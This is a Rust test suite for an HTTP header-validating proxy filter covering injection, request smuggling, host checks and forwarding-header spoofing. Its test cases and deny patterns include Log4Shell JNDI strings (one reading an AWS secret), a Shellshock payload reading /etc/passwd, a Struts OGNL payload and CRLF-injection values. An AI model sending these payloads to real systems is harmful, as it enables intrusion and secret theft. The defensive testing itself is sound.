use super::*;
use crate::control::configure;
use crate::store::MemoryStore;
use std::time::SystemTime;

fn guard(json: &str) -> HeaderGuard {
    configure::<HeaderGuard>(json.as_bytes()).unwrap()
}

fn config_error(json: &str) -> ConfigError {
    configure::<HeaderGuard>(json.as_bytes()).unwrap_err()
}

/// A request as Envoy hands it over: pseudo-headers, then raw (name, value bytes) fields.
fn req(fields: &[(&str, &[u8])]) -> RequestView {
    req_to("GET", "/orders", "api.example.com", fields)
}

fn req_to(method: &str, path: &str, authority: &str, fields: &[(&str, &[u8])]) -> RequestView {
    let mut h: crate::request::Headers = vec![
        (":method".into(), method.as_bytes().to_vec()),
        (":path".into(), path.as_bytes().to_vec()),
        (":authority".into(), authority.as_bytes().to_vec()),
        (":scheme".into(), b"https".to_vec()),
    ];
    h.extend(fields.iter().map(|(k, v)| (k.to_string(), v.to_vec())));
    RequestView::from_headers(h).unwrap()
}

fn verdict(g: &HeaderGuard, r: &RequestView) -> Verdict {
    let store = MemoryStore::default();
    let env = Env {
        now: SystemTime::UNIX_EPOCH,
        store: &store,
    };
    g.on_request(r, &env)
}

/// The denial's (status, code), or `None` when the request passes.
fn denial(g: &HeaderGuard, r: &RequestView) -> Option<(u16, &'static str)> {
    match verdict(g, r) {
        Verdict::Deny(r) => Some((r.status, r.code)),
        Verdict::Mutate(_) | Verdict::Continue => None,
        v => panic!("unexpected verdict {v:?}"),
    }
}

fn removed(v: &Verdict) -> Vec<String> {
    match v {
        Verdict::Mutate(ops) => ops
            .iter()
            .map(|op| match op {
                HeaderOp::Remove(k) => k.clone(),
                op => panic!("not a removal: {op:?}"),
            })
            .collect(),
        v => panic!("not a Mutate: {v:?}"),
    }
}

/// (attack or RFC section, fields, expected denial) under the default policy.
type Case = (
    &'static str,
    &'static [(&'static str, &'static [u8])],
    Option<(u16, &'static str)>,
);

fn run_table(g: &HeaderGuard, cases: &[Case]) {
    for (name, fields, want) in cases {
        assert_eq!(denial(g, &req(fields)), *want, "{name}");
    }
}

#[test]
fn rfc9110_5_1_field_names_are_tokens() {
    let cases: &[Case] = &[
        ("token", &[("x-a_b.c~1", b"v")], None),
        (
            "space in name",
            &[("x a", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
        (
            "colon in name",
            &[("x:a", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
        (
            "paren (separator)",
            &[("x(a)", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
        (
            "empty name",
            &[("", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
        (
            "non-ascii name",
            &[("x-\u{e9}", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
        (
            "CR in name",
            &[("x-a\r\nx-b", b"v")],
            Some((400, "header_guard.invalid_name")),
        ),
    ];
    run_table(&guard("{}"), cases);
}

#[test]
fn rfc9110_5_5_values_have_no_cr_lf_nul_or_ctl_but_htab() {
    let cases: &[Case] = &[
        ("visible + SP + HTAB", &[("x-a", b"a b\tc")], None),
        (
            "obs-text allowed by default",
            &[("x-a", b"caf\xc3\xa9")],
            None,
        ),
        (
            "CRLF header injection",
            &[("x-a", b"a\r\nset-cookie: x=1")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "bare CR",
            &[("x-a", b"a\rb")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "bare LF",
            &[("x-a", b"a\nb")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "NUL truncation",
            &[("x-a", b"admin\0.evil")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "SOH",
            &[("x-a", b"a\x01")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "ESC (terminal escapes in logs)",
            &[("user-agent", b"\x1b[31m")],
            Some((400, "header_guard.invalid_value")),
        ),
        (
            "DEL",
            &[("x-a", b"a\x7f")],
            Some((400, "header_guard.invalid_value")),
        ),
    ];
    run_table(&guard("{}"), cases);
}

#[test]
fn rfc9112_5_2_obs_fold_is_rejected() {
    let cases: &[Case] = &[
        (
            "CRLF SP",
            &[("x-a", b"a\r\n b")],
            Some((400, "header_guard.obs_fold")),
        ),
        (
            "CRLF HTAB",
            &[("x-a", b"a\r\n\tb")],
            Some((400, "header_guard.obs_fold")),
        ),
        (
            "LF SP",
            &[("x-a", b"a\n b")],
            Some((400, "header_guard.obs_fold")),
        ),
    ];
    run_table(&guard("{}"), cases);
}

#[test]
fn obs_text_can_be_refused() {
    let g = guard(r#"{"default": {"allow_obs_text": false}}"#);
    assert_eq!(
        denial(&g, &req(&[("x-a", "caf\u{e9}".as_bytes())])),
        Some((400, "header_guard.invalid_value"))
    );
    assert_eq!(denial(&g, &req(&[("x-a", b"cafe")])), None);
}

#[test]
fn pseudo_header_values_are_checked_too() {
    let g = guard("{}");
    let r = req_to("GET", "/", "api.example.com\x01", &[]);
    assert_eq!(denial(&g, &r), Some((400, "header_guard.invalid_value")));
}

#[test]
fn encoded_line_breaks_in_reflected_headers_response_splitting() {
    let cases: &[Case] = &[
        ("plain", &[("referer", b"https://a.example/x?y=1")], None),
        (
            "%0d%0a",
            &[("referer", b"https://a/%0d%0aSet-Cookie:x=1")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "%0D%0A upper",
            &[("x-request-id", b"id%0D%0AX-Injected: 1")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "lone %0a",
            &[("user-agent", b"ua%0ax")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "double-encoded %250d",
            &[("referer", b"a%250d%250ab")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "backslash escapes",
            &[("x-request-id", b"a\\r\\nb")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "\\u000a escape",
            &[("x-correlation-id", b"a\\u000ab")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "raw U+2028 line separator",
            &[("user-agent", b"a\xe2\x80\xa8b")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "raw U+0085 NEL",
            &[("user-agent", b"a\xc2\x85b")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "%E2%80%A8",
            &[("referer", b"a%E2%80%A8b")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        (
            "%u2029 (IIS)",
            &[("referer", b"a%u2029b")],
            Some((400, "header_guard.encoded_crlf")),
        ),
        ("not a named header", &[("x-note", b"a%0d%0ab")], None),
    ];
    run_table(&guard("{}"), cases);
    let all = guard(r#"{"default": {"encoded_crlf_headers": ["*"]}}"#);
    assert_eq!(
        denial(&all, &req(&[("x-note", b"a%0d%0ab")])),
        Some((400, "header_guard.encoded_crlf"))
    );
    let off = guard(r#"{"default": {"encoded_crlf_headers": []}}"#);
    assert_eq!(denial(&off, &req(&[("referer", b"a%0d%0ab")])), None);
    let extended = guard(r#"{"default": {"encoded_crlf_headers": ["@default", "x-return-to"]}}"#);
    assert!(denial(&extended, &req(&[("x-return-to", b"%0a")])).is_some());
    assert!(denial(&extended, &req(&[("referer", b"%0a")])).is_some());
}

#[test]
fn rfc6585_5_limits_are_431() {
    let g = guard(
        r#"{"default": {"limits": {"max_headers": 3, "max_name_bytes": 8, "max_value_bytes": 10, "max_total_bytes": 30}}}"#,
    );
    let cases: &[Case] = &[
        (
            "within limits",
            &[("a", b"1"), ("b", b"2"), ("c", b"3")],
            None,
        ),
        (
            "count",
            &[("a", b"1"), ("b", b"2"), ("c", b"3"), ("d", b"4")],
            Some((431, "header_guard.too_many_headers")),
        ),
        (
            "name length",
            &[("x-123456789", b"1")],
            Some((431, "header_guard.name_too_long")),
        ),
        (
            "value length",
            &[("a", b"12345678901")],
            Some((431, "header_guard.value_too_long")),
        ),
        (
            "total",
            &[
                ("a", b"1234567890"),
                ("b", b"1234567890"),
                ("c", b"1234567890"),
            ],
            Some((431, "header_guard.headers_too_large")),
        ),
    ];
    run_table(&g, cases);
    // Pseudo-headers are not counted: a long path is Envoy's limit, not this one.
    let long_path = format!("/{}", "a".repeat(100));
    assert_eq!(denial(&g, &req_to("GET", &long_path, "h", &[])), None);
}

#[test]
fn default_limits() {
    let g = guard("{}");
    let many: Vec<(String, Vec<u8>)> = (0..101)
        .map(|i| (format!("x-h{i}"), b"v".to_vec()))
        .collect();
    let fields: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_slice()))
        .collect();
    assert_eq!(
        denial(&g, &req(&fields)),
        Some((431, "header_guard.too_many_headers"))
    );
    assert_eq!(denial(&g, &req(&fields[..100])), None);
    let big = vec![b'a'; 8193];
    assert_eq!(
        denial(&g, &req(&[("x-a", &big)])),
        Some((431, "header_guard.value_too_long"))
    );
    assert_eq!(denial(&g, &req(&[("x-a", &big[..8192])])), None);
}

#[test]
fn rfc9110_5_3_singleton_fields_appear_once() {
    let cases: &[Case] = &[
        (
            "two Authorization",
            &[
                ("authorization", b"Bearer a"),
                ("authorization", b"Bearer b"),
            ],
            Some((400, "header_guard.duplicate")),
        ),
        (
            "Authorization joined by the codec",
            &[("authorization", b"Bearer a,Bearer b")],
            Some((400, "header_guard.duplicate")),
        ),
        (
            "Digest auth-params are a list",
            &[(
                "authorization",
                br#"Digest username="a, b", realm="r", nonce="n""#,
            )],
            None,
        ),
        (
            "two Content-Type",
            &[("content-type", b"a/b"), ("content-type", b"c/d")],
            Some((400, "header_guard.duplicate")),
        ),
        (
            "Content-Type joined by the codec",
            &[("content-type", b"application/json,text/xml")],
            Some((400, "header_guard.duplicate")),
        ),
        (
            "quoted comma is fine",
            &[("content-type", br#"multipart/form-data; boundary="a,b""#)],
            None,
        ),
        (
            "Host differs from :authority (RFC 9113 8.3.1)",
            &[("host", b"evil.example")],
            Some((400, "header_guard.duplicate")),
        ),
        (
            "Host equal to :authority",
            &[("host", b"api.example.com")],
            None,
        ),
        (
            "repeated non-singleton is fine",
            &[("accept", b"a/b"), ("accept", b"c/d")],
            None,
        ),
    ];
    run_table(&guard("{}"), cases);
}

#[test]
fn duplicate_host_joined_by_the_codec_is_400() {
    let g = guard("{}");
    let r = req_to("GET", "/", "api.example.com,evil.example", &[]);
    assert_eq!(denial(&g, &r), Some((400, "header_guard.duplicate")));
}

#[test]
fn unique_list_extends_or_replaces() {
    let extended = guard(r#"{"default": {"unique_headers": ["@default", "x-tenant"]}}"#);
    let two_tenants = req(&[("x-tenant", b"a"), ("x-tenant", b"b")]);
    assert_eq!(
        denial(&extended, &two_tenants),
        Some((400, "header_guard.duplicate"))
    );
    let two_auth = req(&[("authorization", b"a"), ("authorization", b"b")]);
    assert!(denial(&extended, &two_auth).is_some());
    let replaced = guard(r#"{"default": {"unique_headers": ["x-tenant"]}}"#);
    assert_eq!(denial(&replaced, &two_auth), None);
    assert!(denial(&replaced, &two_tenants).is_some());
}

#[test]
fn request_smuggling_rfc9112_6() {
    let cases: &[Case] = &[
        ("chunked", &[("transfer-encoding", b"chunked")], None),
        (
            "Chunked (case-insensitive)",
            &[("transfer-encoding", b"Chunked")],
            None,
        ),
        ("content-length", &[("content-length", b"42")], None),
        (
            "CL.TE",
            &[("content-length", b"6"), ("transfer-encoding", b"chunked")],
            Some((400, "header_guard.cl_and_te")),
        ),
        (
            "TE.CL",
            &[("transfer-encoding", b"chunked"), ("content-length", b"3")],
            Some((400, "header_guard.cl_and_te")),
        ),
        (
            "TE.TE xchunked",
            &[("transfer-encoding", b"xchunked")],
            Some((400, "header_guard.bad_transfer_encoding")),
        ),
        (
            "TE.TE chunked, identity",
            &[("transfer-encoding", b"chunked, identity")],
            Some((400, "header_guard.bad_transfer_encoding")),
        ),
        (
            "TE.TE gzip, chunked",
            &[("transfer-encoding", b"gzip, chunked")],
            Some((400, "header_guard.bad_transfer_encoding")),
        ),
        (
            "TE.TE two fields",
            &[
                ("transfer-encoding", b"chunked"),
                ("transfer-encoding", b"identity"),
            ],
            Some((400, "header_guard.bad_transfer_encoding")),
        ),
        (
            "TE.TE chunked-false",
            &[("transfer-encoding", b"chunked-false")],
            Some((400, "header_guard.bad_transfer_encoding")),
        ),
        (
            "duplicate CL",
            &[("content-length", b"3"), ("content-length", b"3")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "CL list joined",
            &[("content-length", b"3,5")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "signed CL",
            &[("content-length", b"+3")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "negative CL",
            &[("content-length", b"-1")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "hex CL",
            &[("content-length", b"0x3")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "empty CL",
            &[("content-length", b"")],
            Some((400, "header_guard.bad_content_length")),
        ),
        (
            "overflowing CL",
            &[("content-length", b"99999999999999999999")],
            Some((400, "header_guard.bad_content_length")),
        ),
    ];
    run_table(&guard("{}"), cases);
}

#[test]
fn rfc9110_7_4_host_allow_list_421() {
    let g = guard(r#"{"default": {"hosts": ["api.example.com", "*.apps.example.com"]}}"#);
    for (authority, want) in [
        ("api.example.com", None),
        ("API.Example.COM:8443", None),
        ("api.example.com.", None),
        ("a.apps.example.com", None),
        ("a.b.apps.example.com", None),
        (
            "apps.example.com",
            Some((421, "header_guard.host_not_allowed")),
        ),
        (
            "evilapps.example.com",
            Some((421, "header_guard.host_not_allowed")),
        ),
        ("evil.example", Some((421, "header_guard.host_not_allowed"))),
        ("", Some((421, "header_guard.host_not_allowed"))),
        (
            "api.example.com@evil.example",
            Some((400, "header_guard.bad_host")),
        ),
        ("api.example.com:80x", Some((400, "header_guard.bad_host"))),
        (
            "api.example.com,evil.example",
            Some((400, "header_guard.duplicate")),
        ),
    ] {
        assert_eq!(
            denial(&g, &req_to("GET", "/", authority, &[])),
            want,
            "{authority}"
        );
    }
    let g400 = guard(r#"{"default": {"hosts": ["api.example.com"], "host_status": 400}}"#);
    assert_eq!(
        denial(&g400, &req_to("GET", "/", "evil.example", &[])),
        Some((400, "header_guard.host_not_allowed"))
    );
}

#[test]
fn authorities_parse_per_rfc3986_3_2() {
    assert_eq!(authority_host("[::1]:8080").unwrap(), "[::1]");
    assert_eq!(authority_host("127.0.0.1").unwrap(), "127.0.0.1");
    assert_eq!(authority_host("a_b.internal:1").unwrap(), "a_b.internal");
    assert_eq!(authority_host("[::1"), Err(AuthorityError::Malformed));
    assert_eq!(authority_host("a b"), Err(AuthorityError::Malformed));
    assert_eq!(authority_host("a:123456"), Err(AuthorityError::Malformed));
    assert!(HostPattern::parse("*.example.com").is_ok());
    assert!(HostPattern::parse("api.example.com:443").is_err());
    assert!(HostPattern::parse("*").is_err());
    assert!(HostPattern::parse("a.*.com").is_err());
}

#[test]
fn spoofed_forwarding_headers_are_stripped_by_default() {
    let g = guard("{}");
    let r = req(&[
        ("x-forwarded-host", b"evil.example"),
        ("x-real-ip", b"127.0.0.1"),
        ("x-original-url", b"/admin"),
        ("x-http-method-override", b"DELETE"),
        ("forwarded", b"for=1.2.3.4"),
        ("accept", b"*/*"),
    ]);
    assert_eq!(
        removed(&verdict(&g, &r)),
        [
            "x-forwarded-host",
            "x-real-ip",
            "x-original-url",
            "x-http-method-override",
            "forwarded"
        ]
    );
}

#[test]
fn headers_envoy_sets_itself_pass_the_default_policy() {
    // What Envoy adds before any filter runs: x-forwarded-proto, x-request-id, and (with
    // use_remote_address) x-forwarded-for. The default policy neither strips nor rejects them,
    // and when they tell the truth about the connection `forwarding` leaves them alone.
    let g = guard("{}");
    let mut r = req(&[
        ("x-forwarded-proto", b"https"),
        ("x-forwarded-for", b"203.0.113.7"),
        ("x-request-id", b"5f1c9a4e-9a1b-4f7e-8c55-0a0b0c0d0e0f"),
        ("user-agent", b"curl/8.5.0"),
        ("accept", b"*/*"),
    ]);
    r.connection = crate::Connection {
        peer: "203.0.113.7".parse().ok(),
        tls: true,
    };
    assert_eq!(verdict(&g, &r), Verdict::Mutate(Vec::new()));
    // Over plain http from that peer, the spoofed https is rewritten.
    r.connection.tls = false;
    assert_eq!(
        verdict(&g, &r),
        Verdict::Mutate(vec![HeaderOp::Set(
            "x-forwarded-proto".into(),
            "http".into()
        )])
    );
}

#[test]
fn reject_wins_over_strip() {
    let g = guard(r#"{"default": {"reject_headers": ["x-original-url", "x-rewrite-url"]}}"#);
    assert_eq!(
        denial(&g, &req(&[("x-original-url", b"/admin")])),
        Some((400, "header_guard.spoofed_header"))
    );
    // The rest of the default strip list is still stripped.
    assert_eq!(
        removed(&verdict(&g, &req(&[("x-real-ip", b"1")]))),
        ["x-real-ip"]
    );
    let all = guard(r#"{"default": {"reject_headers": ["@default"]}}"#);
    assert!(denial(&all, &req(&[("x-forwarded-host", b"a")])).is_some());
}

#[test]
fn internal_headers_are_stripped_default_and_extended() {
    let g = guard("{}");
    let r = req(&[
        ("x-internal-user", b"admin"),
        ("x-jwt-sub", b"alice"),
        ("x-apikey-scopes", b"admin"),
        ("x-portcullis-fault", b"trap"),
        ("x-jwtish", b"kept"),
    ]);
    assert_eq!(
        removed(&verdict(&g, &r)),
        [
            "x-internal-user",
            "x-jwt-sub",
            "x-apikey-scopes",
            "x-portcullis-fault"
        ]
    );
    let ext = guard(r#"{"default": {"internal_headers": ["@default", "x-acme-*"]}}"#);
    let r = req(&[("x-acme-role", b"root"), ("x-jwt-sub", b"a")]);
    assert_eq!(removed(&verdict(&ext, &r)), ["x-acme-role", "x-jwt-sub"]);
    let replaced = guard(r#"{"default": {"internal_headers": ["x-acme-*"]}}"#);
    assert_eq!(removed(&verdict(&replaced, &r)), ["x-acme-role"]);
}

#[test]
fn a_header_on_both_lists_is_removed_once() {
    let g = guard(r#"{"default": {"internal_headers": ["@default", "x-real-ip"]}}"#);
    assert_eq!(
        removed(&verdict(&g, &req(&[("x-real-ip", b"1")]))),
        ["x-real-ip"]
    );
}

#[test]
fn default_deny_patterns_log4shell_shellshock_ognl() {
    let cases: &[Case] = &[
        ("benign dollar", &[("x-a", b"price: $5 {ok}")], None),
        (
            "log4shell CVE-2021-44228",
            &[("user-agent", b"${jndi:ldap://evil/a}")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "log4shell upper",
            &[("x-api-version", b"${JNDI:rmi://x}")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "log4shell nested lower",
            &[("referer", b"${${lower:j}ndi:ldap://x}")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "log4shell ::- obfuscation",
            &[("x-a", b"${${::-j}${::-n}di:dns://x}")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "log4j env exfiltration",
            &[("x-a", b"${env:AWS_SECRET_ACCESS_KEY}")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "shellshock CVE-2014-6271",
            &[("user-agent", b"() { :; }; /bin/cat /etc/passwd")],
            Some((400, "header_guard.denied_pattern")),
        ),
        (
            "struts ognl CVE-2017-5638",
            &[(
                "content-type",
                b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            )],
            Some((400, "header_guard.denied_pattern")),
        ),
    ];
    run_table(&guard("{}"), cases);
    let off = guard(r#"{"default": {"default_deny_patterns": false}}"#);
    assert_eq!(
        denial(&off, &req(&[("user-agent", b"${jndi:ldap://x}")])),
        None
    );
}

#[test]
fn deny_patterns_per_header_and_the_detail_names_the_pattern_not_the_value() {
    let g = guard(
        r#"{"default": {"deny_patterns": [{"name": "sqli", "headers": ["x-search"], "pattern": "(?i)union\\s+select"}]}}"#,
    );
    let r = req(&[("x-search", b"1 UNION  SELECT password")]);
    let Verdict::Deny(rej) = verdict(&g, &r) else {
        panic!("not denied")
    };
    assert_eq!(rej.code, "header_guard.denied_pattern");
    assert_eq!(
        rej.detail,
        "header `x-search` matches the deny pattern `sqli`"
    );
    assert_eq!(denial(&g, &req(&[("x-other", b"union select")])), None);
    // Deny patterns can look at the path too.
    let p = guard(
        r#"{"default": {"deny_patterns": [{"name": "dotfiles", "headers": [":path"], "pattern": "/\\.git"}]}}"#,
    );
    assert!(denial(&p, &req_to("GET", "/.git/config", "h", &[])).is_some());
}

#[test]
fn report_mode_passes_unchanged_and_reports_every_finding() {
    let g = guard(r#"{"default": {"mode": "report", "reject_headers": ["x-original-url"]}}"#);
    let r = req(&[
        ("x-a", b"a\x01"),
        ("x-original-url", b"/admin"),
        ("x-internal-user", b"admin"),
        ("x-real-ip", b"1"),
        ("user-agent", b"${jndi:ldap://x}"),
    ]);
    let Verdict::Pass { ops, reports } = verdict(&g, &r) else {
        panic!("report mode must pass")
    };
    assert!(ops.is_empty(), "report mode strips nothing: {ops:?}");
    let codes: Vec<_> = reports.iter().map(|r| r.code).collect();
    assert_eq!(
        codes,
        [
            "header_guard.invalid_value",
            "header_guard.spoofed_header",
            "header_guard.denied_pattern",
            "header_guard.internal_header",
            "header_guard.spoofed_header",
        ]
    );
    // A clean request in report mode reports nothing.
    assert_eq!(
        verdict(&g, &req(&[("accept", b"*/*")])),
        Verdict::Pass {
            ops: vec![],
            reports: vec![]
        }
    );
}

#[test]
fn per_route_rules_first_match_wins() {
    let g = guard(
        r#"{"routes": [{"match": {"prefix": "/legacy"}, "mode": "report"},
                       {"match": {"prefix": "/admin"}, "hosts": ["admin.example.com"]}],
            "default": {}}"#,
    );
    let bad = [("x-a", b"\x01".as_slice())];
    assert!(matches!(
        verdict(&g, &req_to("GET", "/legacy/x", "h", &bad)),
        Verdict::Pass { .. }
    ));
    assert!(denial(&g, &req_to("GET", "/orders", "h", &bad)).is_some());
    assert_eq!(
        denial(&g, &req_to("GET", "/admin", "api.example.com", &[])),
        Some((421, "header_guard.host_not_allowed"))
    );
    assert_eq!(
        denial(&g, &req_to("GET", "/orders", "api.example.com", &[])),
        None
    );
}

fn resp(headers: &[(&str, &str)]) -> ResponseView {
    ResponseView {
        status: 200,
        headers: headers
            .iter()
            .map(|(k, v)| (k.to_string(), v.as_bytes().to_vec()))
            .collect(),
    }
}

#[test]
fn response_fingerprints_removed_and_security_headers_set() {
    let g = guard("{}");
    let store = MemoryStore::default();
    let env = Env {
        now: SystemTime::UNIX_EPOCH,
        store: &store,
    };
    let r = req(&[]);
    let v = g.on_response(
        &r,
        &resp(&[
            ("server", "Apache/2.4.1"),
            ("x-powered-by", "PHP/5.6"),
            ("content-type", "text/plain"),
        ]),
        &env,
    );
    let Verdict::Mutate(ops) = v else {
        panic!("{v:?}")
    };
    assert_eq!(
        ops,
        [
            HeaderOp::Remove("server".into()),
            HeaderOp::Remove("x-powered-by".into()),
            HeaderOp::Set("referrer-policy".into(), "no-referrer".into()),
            HeaderOp::Set(
                "strict-transport-security".into(),
                "max-age=31536000; includeSubDomains".into()
            ),
            HeaderOp::Set("x-content-type-options".into(), "nosniff".into()),
            HeaderOp::Set("x-frame-options".into(), "DENY".into()),
        ]
    );
    let custom = guard(
        r#"{"default": {"response": {"remove_headers": ["@default", "x-debug-*"], "set_headers": {"X-Content-Type-Options": "nosniff"}}}}"#,
    );
    let Verdict::Mutate(ops) = custom.on_response(
        &r,
        &resp(&[("x-debug-sql", "select"), ("server", "x")]),
        &env,
    ) else {
        panic!()
    };
    assert_eq!(
        ops,
        [
            HeaderOp::Remove("x-debug-sql".into()),
            HeaderOp::Remove("server".into()),
            HeaderOp::Set("x-content-type-options".into(), "nosniff".into()),
        ]
    );
}

#[test]
fn invalid_policies_name_the_path() {
    for (json, path) in [
        (
            r#"{"default": {"limits": {"max_headers": 0}}}"#,
            "default.limits.max_headers",
        ),
        (
            r#"{"default": {"host_status": 403}}"#,
            "default.host_status",
        ),
        (
            r#"{"default": {"hosts": ["a.example.com", "*.b.com:80"]}}"#,
            "default.hosts[1]",
        ),
        (
            r#"{"default": {"strip_headers": ["x a"]}}"#,
            "default.strip_headers[0]",
        ),
        (
            r#"{"default": {"internal_headers": ["@default", ":path"]}}"#,
            "default.internal_headers[1]",
        ),
        (
            r#"{"default": {"encoded_crlf_headers": [":status"]}}"#,
            "default.encoded_crlf_headers[0]",
        ),
        (
            r#"{"default": {"deny_patterns": [{"name": "x", "pattern": "("}]}}"#,
            "default.deny_patterns[0].pattern",
        ),
        (
            r#"{"default": {"deny_patterns": [{"name": "a b", "pattern": "x"}]}}"#,
            "default.deny_patterns[0].name",
        ),
        (
            r#"{"default": {"deny_patterns": [{"name": "x", "headers": [], "pattern": "x"}]}}"#,
            "default.deny_patterns[0].headers",
        ),
        (
            r#"{"default": {"response": {"set_headers": {"x-a": "a\nb"}}}}"#,
            "default.response.set_headers.x-a",
        ),
        (r#"{"default": {"mode": "shadow"}}"#, "default.mode"),
        (r#"{"default": {"limit": {}}}"#, "default.limit"),
        (r#"{"routes": [{"mode": "report"}]}"#, "routes[0].match"),
    ] {
        assert_eq!(config_error(json).path, path, "{json}");
    }
    let long = format!(
        r#"{{"default": {{"deny_patterns": [{{"name": "x", "pattern": "{}"}}]}}}}"#,
        "a".repeat(2000)
    );
    assert!(config_error(&long).reason.contains("longer than"));
}

#[test]
fn encoded_line_break_scanner_unit() {
    assert!(!has_encoded_line_break(b""));
    assert!(!has_encoded_line_break(b"100%"));
    assert!(!has_encoded_line_break(b"%0"));
    assert!(has_encoded_line_break(b"%0A"));
    assert!(has_encoded_line_break(b"\\x0D"));
}

#[test]
fn list_splitting_respects_quotes() {
    assert_eq!(split_list(b"a, b"), vec![b"a".as_slice(), b" b"]);
    assert_eq!(split_list(br#""a,\"b", c"#).len(), 2);
    assert_eq!(split_list(b"").len(), 1);
    assert!(!authorization_joined(b"Basic dXNlcjpwYXNz"));
    assert!(!authorization_joined(b"Bearer abc=="));
    assert!(authorization_joined(b"Basic a,Basic b"));
}

#[test]
fn underscore_variants_cgi_header_name_confusion() {
    // `x_forwarded_host` is HTTP_X_FORWARDED_HOST to a CGI/PHP/WSGI backend, like `x-forwarded-host`.
    let g = guard(r#"{"default": {"reject_headers": ["x-original-url"]}}"#);
    let r = req(&[
        ("x_forwarded_host", b"evil"),
        ("x_jwt_sub", b"admin"),
        ("x_custom", b"kept"),
    ]);
    assert_eq!(removed(&verdict(&g, &r)), ["x_jwt_sub", "x_forwarded_host"]);
    assert_eq!(
        denial(&g, &req(&[("x_original_url", b"/admin")])),
        Some((400, "header_guard.spoofed_header"))
    );
}

/// The built-in scanners implement exactly their documented regular expressions.
#[test]
fn builtin_patterns_agree_with_their_regexes() {
    let inputs: &[&[u8]] = &[
        b"",
        b"${",
        b"${jndi:ldap://x}",
        b"${ JNDI:x}",
        b"${\x0bjndi",
        b"a${x${lower:j}",
        b"${::-j}",
        b"${${",
        b"$ {jndi",
        b"${jnd",
        b"x${Docker:a}",
        b"${k8s:x}",
        b"${web",
        b"${ ${",
        b"() { :; };",
        b"  (\t)\n{",
        b"() x {",
        b"x() {",
        b"( ) {",
        b"(){",
        b"()",
        b"(",
        b"%{(#_=",
        b"%{ ( @x",
        b"%{#",
        b"%{ (x",
        b"%{x",
        b"%(#",
        b"a%{\r\n#",
        b"%{((#",
        b"\xff${jndi",
        "\u{e9}${env:".as_bytes(),
        b"${LOG4J:x}",
        b"${date:}",
        b"${bundle",
    ];
    for (builtin, name, pattern) in BUILTINS {
        let re = regex_lite::Regex::new(pattern).unwrap();
        for input in inputs {
            let text = String::from_utf8_lossy(input);
            assert_eq!(
                builtin.matches(input),
                re.is_match(&text),
                "{name} on {text:?}"
            );
        }
    }
}

/// #17 class 2: a policy that strips or refuses a header Envoy needs to route is refused at
/// configure time, naming the entry and the reason (a prefix covering it counts too).
#[test]
fn policies_removing_headers_envoy_needs_to_route_are_refused() {
    for (policy, path, name) in [
        (
            r#"{"default": {"strip_headers": ["@default", "x-forwarded-proto"]}}"#,
            "default.strip_headers[1]",
            "x-forwarded-proto",
        ),
        (
            r#"{"default": {"strip_headers": ["X-Forwarded-*"]}}"#,
            "default.strip_headers[0]",
            "x-forwarded-proto",
        ),
        (
            r#"{"default": {"reject_headers": ["x-forwarded-proto"]}}"#,
            "default.reject_headers[0]",
            "x-forwarded-proto",
        ),
        (
            r#"{"default": {"internal_headers": ["x-*"]}}"#,
            "default.internal_headers[0]",
            "x-forwarded-proto",
        ),
        (
            r#"{"routes": [{"match": {"prefix": "/a"}, "strip_headers": ["host"]}]}"#,
            "routes[0].strip_headers[0]",
            "host",
        ),
        (
            r#"{"default": {"reject_headers": ["h*"]}}"#,
            "default.reject_headers[0]",
            "host",
        ),
    ] {
        let e = configure::<HeaderGuard>(policy.as_bytes()).unwrap_err();
        let text = e.to_string();
        assert!(text.starts_with(&format!("{path}: ")), "{text}");
        assert!(
            text.contains(&format!("`{name}`, which Envoy needs")),
            "{text}"
        );
    }
    let e =
        configure::<HeaderGuard>(br#"{"default": {"strip_headers": [":authority"]}}"#).unwrap_err();
    assert!(e.to_string().starts_with("default.strip_headers[0]"), "{e}");
    // Neighbours of the protected names stay allowed.
    assert!(configure::<HeaderGuard>(
        br#"{"default": {"strip_headers": ["x-forwarded-prefix", "x-host"]}}"#
    )
    .is_ok());
}
